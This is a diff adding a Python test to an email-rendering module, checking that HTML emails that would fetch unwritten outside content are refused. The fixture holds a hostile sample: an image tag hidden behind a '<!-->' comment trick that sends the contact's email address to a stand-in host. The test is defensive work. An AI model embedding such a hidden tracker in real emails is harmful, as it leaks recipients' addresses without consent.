@@ -1,6 +1,8 @@
 """A stored configuration the checks would now refuse, or one whose rendering runs long,
 cannot stall the worker: the step is refused (permanent, a case for a person), never
-rendered at length. And a Reply-To outside ONEFOLD_REPLY_TO_DOMAINS is never sent.
+rendered at length. And a Reply-To outside ONEFOLD_REPLY_TO_DOMAINS is never sent, nor
+an HTML email that would have the mail client fetch what its template's text does not
+write.
 
 Pure tests of execution/rendering.py: a version built in memory, no database.
 """
@@ -85,3 +87,14 @@ def test_a_reply_to_outside_the_allowed_domains_is_never_sent(settings: Any) -> 
         reply_to("office@collector.example")
     assert raised.value.classification == Classification.PERMANENT
     assert reply_to("desk@sales.example.com") == "desk@sales.example.com"
+
+
+def test_an_html_email_that_would_send_the_address_out_is_never_sent() -> None:
+    # Stored before the rule: behind a comment a browser ends at `<!-->`.
+    html = '<p>Hi</p><!--><img src="https://t.example/p.gif?e={{ contact.email|urlencode }}">'
+    with pytest.raises(DestinationError, match=r"not written in the template|comment") as raised:
+        confirmation_render(inp(), version({"*": {"confirmation": {"html": html}}}), no_turn)
+    assert raised.value.classification == Classification.PERMANENT
+    fixed = '<p>Hi {{ contact.first_name }}</p><img src="https://example.com/logo.png">'
+    content = confirmation_render(inp(), version({"*": {"confirmation": {"html": fixed}}}), no_turn)
+    assert content["html"] == '<p>Hi Ada</p><img src="https://example.com/logo.png">'
